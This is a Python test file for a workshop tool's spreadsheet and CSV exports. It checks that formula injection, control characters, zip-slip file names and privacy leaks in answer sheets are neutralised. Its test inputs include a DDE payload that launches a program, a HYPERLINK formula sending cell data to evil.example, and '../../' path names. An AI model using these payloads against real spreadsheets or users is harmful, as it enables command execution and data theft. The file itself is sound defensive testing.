"""Security of the exports. A: no cell of any export runs as a formula or crashes the workbook,
whatever text participants, a facilitator or a restored backup put in. B: the answer sheets keep
the promise the comparison per team makes: small teams, people's answer order and hidden answers
stay private unless the facilitator asks for the hidden ones."""

from __future__ import annotations

import ast
import csv
import io
import random
import zipfile
from itertools import pairwise
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from dna.analysis.compare import compare, to_csv
from dna.analysis.grouping import Analysis, Group, QuestionResult
from dna.analysis.overrides import Override
from dna.output import export
from dna.records import CURRENT, DESIRED, QUESTIONS, Answer
from dna.store import StoredAnswer
from dna.workshop.values import Value

ROOT = Path(__file__).resolve().parent.parent
FORMULA = ("=", "+", "-", "@", "\t", "\r")
DDE = "-2+3+cmd|' /C calc'!A0"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A2,"Klik")'


def answer(text, team=None, question=CURRENT, hidden=None, i=0) -> StoredAnswer:
    return StoredAnswer(i, question, text, team, hidden, False, False)


def build(values=(), answers=(), groups=(), overrides=(), ballots=(), language="nl", **kw):
    """The export's tables of a workshop made of these parts (the groups in both questions)."""
    result = QuestionResult(sum(g.count for g in groups), tuple(groups), 9)
    analysis = Analysis("test", {CURRENT: result, DESIRED: result})
    final = [v.id for v in values][:1]
    return export.tables(analysis, answers, overrides, values, ballots, final, language, **kw)


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def assert_inert(xlsx: bytes, zipped: bytes) -> None:
    """No cell of the workbook is a formula (or an error value), no text starts like one; the
    same for every field of every CSV in the zip."""
    book = load_workbook(io.BytesIO(xlsx))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type not in ("f", "e"), (ws.title, c.coordinate, c.value)
                assert not (isinstance(c.value, str) and c.value.startswith(FORMULA)), c.value
    with zipfile.ZipFile(io.BytesIO(zipped)) as archive:
        for name in archive.namelist():
            assert "/" not in name and "\\" not in name and not name.startswith(".")
            for row in read_csv(archive.read(name)):
                assert not any(field.startswith(FORMULA) for field in row), (name, row)


# -- A. formula injection ----------------------------------------------------------------------


def test_a_value_named_like_a_dde_payload_stays_text_in_the_ballots_csv():
    """Attack: CSV (DDE) injection. The ballots table's header is made of value names, and
    headers were written raw: a value named `-2+3+cmd|' /C calc'!A0` went into
    stembiljetten.csv as a live formula that starts a program when Excel opens the file."""
    values = [Value(DDE, id=1, position=1), Value("Lef", id=2, position=2)]
    files = export.csvs(build(values, ballots=[{1: 2, 2: 1}]))
    assert read_csv(files["stembiljetten.csv"])[0] == ["Stembiljet", "'" + DDE, "Lef"]
    assert read_csv(files["stemmen.csv"])[1][1] == "'" + DDE  # rows were safe already


def test_a_hyperlink_formula_in_a_value_name_is_no_formula_in_the_workbook():
    """Attack: formula injection in the XLSX. A value name `=HYPERLINK(...)` from a restored
    backup became a live formula in the Stembiljetten header (openpyxl makes any text starting
    with '=' a formula), one click from leaking the sheet to another site; '#REF!' became an
    error value instead of the text someone wrote."""
    values = [Value(HYPERLINK, id=1, position=1), Value("#REF!", id=2, position=2)]
    book = load_workbook(io.BytesIO(export.workbook(build(values, ballots=[{1: 1}]))))
    header = book["Stembiljetten"][1]
    assert [c.value for c in header] == ["Stembiljet", "'" + HYPERLINK, "#REF!"]
    assert all(c.data_type == "s" for c in header)


def test_control_characters_cannot_crash_the_workbook():
    """Attack: denial of the export. A control character (a pasted BEL or ESC, or a NUL in a
    crafted backup) in a value name went raw into a header, where openpyxl raises
    IllegalCharacterError: no workbook at all for that workshop."""
    values = [Value("Be\x07l\x1b", "\x00=1+1", id=1, position=1)]
    sheets = build(values, [answer("\x0c=2+2", "T\x01eam")], ballots=[{1: 1}])
    book = load_workbook(io.BytesIO(export.workbook(sheets)))
    assert book["Stembiljetten"]["B1"].value == "Bel"
    assert book["Waarden"]["C2"].value == "'=1+1"  # stripped, then neutralised
    assert "\x07" not in export.csvs(sheets)["stembiljetten.csv"].decode()


def test_a_formula_after_leading_blanks_or_invisible_characters_is_neutralised():
    """Attack: a filter bypass. ' =1+1', '\\n=1+1' or a zero-width space before '=' slipped
    past a check on the first character only, while some spreadsheets trim them on import."""
    from dna import cells

    for text in (" =1+1", "\n=1+1", "\u200b=1+1", "\ufeff-2+3", "\x00@SUM(A1)"):
        assert cells.safe_cell(text).startswith("'"), repr(text)
    assert cells.safe_cell("een = teken") == "een = teken"
    assert cells.safe_cell(7) == 7 and cells.safe_cell(None) is None


def test_sheet_titles_are_valid_and_unique():
    """Attack: a crafted table name. A title with / : [ ] * ? \\ made openpyxl refuse the sheet
    (no workbook), one over 31 characters made Excel repair the file, and two equal names
    collided."""
    bad = "=Stem/men:[1]*?\\"
    sheets = {
        k: export.Table(name, ("a",), (("x",),))
        for k, name in (("a", bad), ("b", bad), ("c", "W" * 40), ("d", ""), ("e", "'quote'"))
    }
    titles = load_workbook(io.BytesIO(export.workbook(sheets))).sheetnames
    assert len(titles) == 5 and len({t.casefold() for t in titles}) == 5
    for title in titles:
        assert title and len(title) <= 31 and not set(title) & set("[]:*?/\\"), title
        assert not title.startswith(("'", *FORMULA)) and not title.endswith("'"), title


def test_csv_names_in_the_zip_cannot_escape_or_collide():
    """Attack: zip slip. A table named '../../Evil' became the entry '../../evil.csv', which an
    unzip tool writes outside its folder; two names equal but for case overwrote each other."""
    names = ("../../Evil", "..\\Evil", "=cmd", "Antwoorden", "ANTWOORDEN", "")
    sheets = {str(i): export.Table(n, ("a",), (("x",),)) for i, n in enumerate(names)}
    with zipfile.ZipFile(io.BytesIO(export.csv_zip(sheets))) as archive:
        entries = archive.namelist()
    assert len(entries) == len(names) == len(set(entries))
    assert entries[3] == "antwoorden.csv"  # an ordinary name stays as it was
    for entry in entries:
        assert entry.endswith(".csv") and "/" not in entry and "\\" not in entry, entry
        assert not entry.startswith((".", *FORMULA)), entry


def test_the_comparison_csv_neutralises_its_headers_and_strips_control_characters():
    """Attack: CSV injection through the comparison download: its header row (column names
    passed in) was written raw, and a control character in a group label reached the file."""
    g = Group("x", "reg\x00els\x1b", 3, (("=cmd|'/C calc'!A0", 3),), people=3)
    result = QuestionResult(3, (g,), 5)
    text = to_csv(compare(Analysis("t", {CURRENT: result, DESIRED: result})), {"label": "=Groep"})
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert table[0][0] == "'=Groep" and table[1][0] == "regels"
    assert not any(f.startswith(FORMULA) for row in table for f in row)


def test_the_neutraliser_lives_below_compare_and_export():
    """Not an attack but the ground the fix stands on: compare imported safe_cell from export,
    an import circle (compare → export → store → values → compare). One neutraliser lives in
    dna/cells.py, imports nothing of dna, and both use it."""
    from dna import cells

    def imported(module: str) -> set[str]:
        tree = ast.parse((ROOT / "dna" / f"{module}.py").read_text(encoding="utf-8"))
        return {n.module or "" for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)} | {
            a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names
        }

    assert "dna.output.export" not in imported("analysis/compare") and "dna.cells" in imported(
        "analysis/compare"
    )
    assert not any(m.startswith("dna") for m in imported("cells"))
    assert export.safe_cell is cells.safe_cell  # still importable from export


TEXT = st.text(st.characters(exclude_categories=()), max_size=12)  # surrogates and controls too
STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\x00=", "\u200b+", "#N/A", ""])
WILD = st.one_of(TEXT, st.builds(str.__add__, STARTS, TEXT))


@st.composite
def workshops(draw) -> dict:
    texts = st.lists(WILD, max_size=2).map(tuple)
    values = [
        Value(n, draw(WILD), draw(texts), draw(texts), draw(texts), draw(texts), id=i, position=i)
        for i, n in enumerate(draw(st.lists(WILD, min_size=1, max_size=3)), 1)
    ]
    teams = draw(st.lists(WILD, max_size=3))
    team = st.sampled_from([None, *teams])
    hidden = st.one_of(st.sampled_from([None, "review", "facilitator"]), WILD)
    answers = [
        answer(draw(WILD), draw(team), draw(st.sampled_from(QUESTIONS)), draw(hidden), i)
        for i in range(draw(st.integers(0, 6)))
    ]
    groups = [
        Group(draw(WILD), draw(WILD), 2, ((draw(WILD), 2),), draw(st.booleans()), 2, draw(WILD))
        for _ in range(draw(st.integers(0, 3)))
    ]
    kinds = st.sampled_from(["merge", "move", "rename", "hide", "show", "reject", "?"])
    payload = st.fixed_dictionaries(
        {"keys": st.lists(WILD, max_size=2), "label": WILD, "reason": WILD, "variant": WILD}
    )
    overrides = [
        Override(draw(kinds), draw(payload), draw(st.sampled_from([None, *QUESTIONS])))
        for _ in range(draw(st.integers(0, 2)))
    ]
    dots = st.integers(0, 3)
    ballots = [{v.id: draw(dots) for v in values} for _ in range(draw(st.integers(0, 2)))]
    return {
        "values": values,
        "answers": answers,
        "groups": groups,
        "overrides": overrides,
        "ballots": ballots,
        "language": draw(st.sampled_from(["nl", "en"])),
        "teams": {t: draw(st.integers(0, 9)) for t in teams},
        "include_hidden": draw(st.booleans()),
    }


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(workshops())
def test_any_text_anywhere_gives_an_inert_workbook_and_csvs(parts):
    """Attack: all of the above at once. Arbitrary text (formula starts, control characters,
    lone surrogates, any unicode) as value names, meanings, behaviours, answers, teams, group
    labels and variants, edit payloads: the workbook and every CSV are made without an error
    and read back without one formula."""
    sheets = build(**parts)
    assert_inert(export.workbook(sheets), export.csv_zip(sheets))


# -- B. privacy of the answer sheets -----------------------------------------------------------

SMALL = {"nl": "kleine teams", "en": "small teams"}


def people(team: str, n: int, per_person: int, start: int = 0) -> list[StoredAnswer]:
    """n people of `team`, each giving `per_person` answers in a row (as they come in)."""
    return [
        answer(f"{team}-p{p}-w{w}", team, QUESTIONS[w % 2], i=start + p * per_person + w)
        for p in range(n)
        for w in range(per_person)
    ]


def answer_rows(sheets) -> list[tuple]:
    return list(sheets["answers"].rows)


def test_teams_are_sized_by_people_not_by_answers():
    """Attack: a talkative pair. One person giving six answers is still one person: counting
    answers would make a team of 1 look like a team of 6 and show it apart."""
    talker = [Answer(CURRENT, f"w{i}", "Kletser", "tok-1") for i in range(6)]
    group = [Answer(DESIRED, "x", "Groot", f"tok-{i}") for i in range(2, 7)]
    anonymous = [Answer(CURRENT, "y", "Los"), Answer(CURRENT, "z", "Los")]  # no id: one each
    sizes = export.team_sizes([*talker, *group, *anonymous, Answer(CURRENT, "q")])
    assert sizes == {"Groot": 5, "Kletser": 1, "Los": 2}


def test_teams_under_five_people_are_merged_into_small_teams():
    """Attack: de-anonymisation. The answer sheets listed every answer with its team, so in a
    team of 2 each member could read off the other's answers, while the comparison per team
    promises that a team under 5 people is never shown apart."""
    rows = [*people("Duo", 2, 3), *people("Groot", 5, 2, 10), *people("Vergeten", 1, 1, 30)]
    rows.append(answer("zonder team", None, i=40))
    sizes = {"Duo": 2, "Groot": 5, "Vergeten": 1}
    for lang in ("nl", "en"):
        sheets = build(answers=rows, teams=sizes, language=lang)
        teams = [r[2] for r in answer_rows(sheets)]
        assert set(teams) == {SMALL[lang], "Groot", ""}
        assert teams.count(SMALL[lang]) == 7 and teams.count("Groot") == 10
    unknown = build(answers=rows)  # no sizes given: every team counts as small
    assert {r[2] for r in answer_rows(unknown)} == {"kleine teams", ""}


def test_answer_rows_keep_no_persons_order():
    """Attack: re-identification by order. Answers came out in the order they were given, one
    person's answers in consecutive rows, so the neighbours of an answer told what else its
    writer said. Now the order depends on the content only: same data, same order, whatever
    order the answers were given in."""
    rows = [*people("Groot", 6, 4), *people("Ander", 5, 4, 100)]
    sizes = {"Groot": 6, "Ander": 5}
    first = answer_rows(build(answers=rows, teams=sizes))
    shuffled = rows[:]
    random.Random(7).shuffle(shuffled)
    assert answer_rows(build(answers=shuffled, teams=sizes)) == first
    assert answer_rows(build(answers=rows[::-1], teams=sizes)) == first
    texts = [r[1] for r in first]
    assert texts != [a.text for a in rows] and sorted(texts) == sorted(a.text for a in rows)
    runs = sum(a.split("-w")[0] == b.split("-w")[0] for a, b in pairwise(texts))
    assert runs < len(texts) // 4  # a person's answers are not kept together


def test_hidden_answers_are_left_out_unless_asked_for():
    """Attack: leaking what was hidden. Swear words held for review, answers the facilitator
    hid and the answers of a group the facilitator hid went into the export for anyone the
    file is mailed to."""
    rows = [
        answer("kut", "T", hidden="review"),
        answer("naam van Piet", "T", hidden="facilitator", i=1),
        answer("traag", "T", i=2),
        answer("open", "T", i=3),
    ]
    groups = [
        Group("traag", "traag", 1, (("traag", 1),), hidden=True, people=1, reason="grof"),
        Group("open", "open", 1, (("open", 1),), people=1),
    ]
    private = build(answers=rows, groups=groups, teams={"T": 5})
    assert [r[1] for r in answer_rows(private)] == ["open"]
    assert {r[1] for r in private["groups"].rows} == {"open"}
    everything = build(answers=rows, groups=groups, teams={"T": 5}, include_hidden=True)
    hidden = {r[1]: r[4] for r in answer_rows(everything)}
    assert hidden == {
        "kut": "ter beoordeling",
        "naam van Piet": "door begeleider",
        "traag": "verborgen",
        "open": "",
    }
    assert {r[1] for r in everything["groups"].rows} == {"open", "traag"}


def test_the_command_line_workbook_is_private_by_default(tmp_path):
    """Attack: the same leaks through `python -m dna sheet --xlsx`: the command line must make
    the private workbook, not the full one."""
    from tests.test_cli import _seeded_workshop, run

    code = _seeded_workshop()
    xlsx = tmp_path / "dna.xlsx"
    proc = run("sheet", "--workshop", code, "--pdf", str(tmp_path / "d.pdf"), "--xlsx", str(xlsx))
    assert proc.returncode == 0, proc.stderr
    rows = list(load_workbook(xlsx)["Antwoorden"].iter_rows(min_row=2, values_only=True))
    assert rows and not {"kut", "log", "traag"} & {r[1] for r in rows}  # hidden: out
    assert {r[2] for r in rows} <= {"kleine teams", None}  # Zorg and ICT have 2 people each


def test_the_sheet_page_adds_hidden_answers_only_when_ticked(app_db, monkeypatch):
    """Attack: a default that leaks. The page's Excel and CSV downloads leave the hidden answers
    out until the facilitator ticks 'Inclusief verborgen antwoorden'."""
    from dna.store import Store, database_url
    from tests.test_app_sheet import recorded_downloads, sheet
    from tests.test_backup import seed

    made = recorded_downloads(monkeypatch)
    store = Store(database_url())
    code = seed(store)
    store.engine.dispose()

    def answers() -> set[str]:
        book = load_workbook(io.BytesIO(made["sheet_dl_xlsx"]))
        texts = {r[1] for r in book["Antwoorden"].iter_rows(min_row=2, values_only=True)}
        with zipfile.ZipFile(io.BytesIO(made["sheet_dl_csv"])) as archive:
            assert texts == {r[1] for r in read_csv(archive.read("antwoorden.csv"))[1:]}
        return texts

    at = sheet(code)
    box = at.checkbox(key="sheet_include_hidden")
    assert box.value is False and "verborgen" in box.label
    assert "open" in answers() and not {"kut", "log"} & answers()
    box.check().run()
    assert not at.exception, at.exception
    assert {"kut", "log", "traag"} <= answers()
